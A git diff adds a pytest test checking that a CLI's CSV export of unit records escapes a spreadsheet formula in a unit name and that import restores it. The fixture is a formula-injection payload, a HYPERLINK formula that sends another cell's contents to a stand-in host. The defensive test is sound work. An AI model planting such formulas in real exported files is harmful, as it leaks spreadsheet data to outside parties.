@@ -54,3 +54,21 @@ def test_export_writes_the_import_format(app: typer.Typer, tmp_path: Path) -> No
     assert len(lines) == Unit.objects.count() + 1
     as_json = json.loads(CliRunner().invoke(app, ["units", "export", "--json"]).stdout)
     assert {row["code"] for row in as_json} == set(Unit.objects.values_list("code", flat=True))
+
+
+@pytest.mark.django_db
+def test_export_neutralises_a_formula_in_a_unit_name_and_import_reads_it_back(
+    app: typer.Typer, tmp_path: Path
+) -> None:
+    name = '=HYPERLINK("http://x.example/?"&B3,"Personal")'
+    Unit.objects.filter(code="VOF-HT-N").update(name=name)
+    file = tmp_path / "units.csv"
+    for args in (["--out", str(file)], []):
+        result = CliRunner().invoke(app, ["units", "export", *args])
+        assert result.exit_code == 0, result.output
+        text = file.read_text(encoding="utf-8") if args else result.stdout
+        line = next(row for row in text.splitlines() if row.startswith("VOF-HT-N,"))
+        assert line.startswith("VOF-HT-N,\"'=HYPERLINK(")
+    result = CliRunner().invoke(app, ["units", "import", str(file), "--json"])
+    assert result.exit_code == 0, result.output
+    assert Unit.objects.get(code="VOF-HT-N").name == name
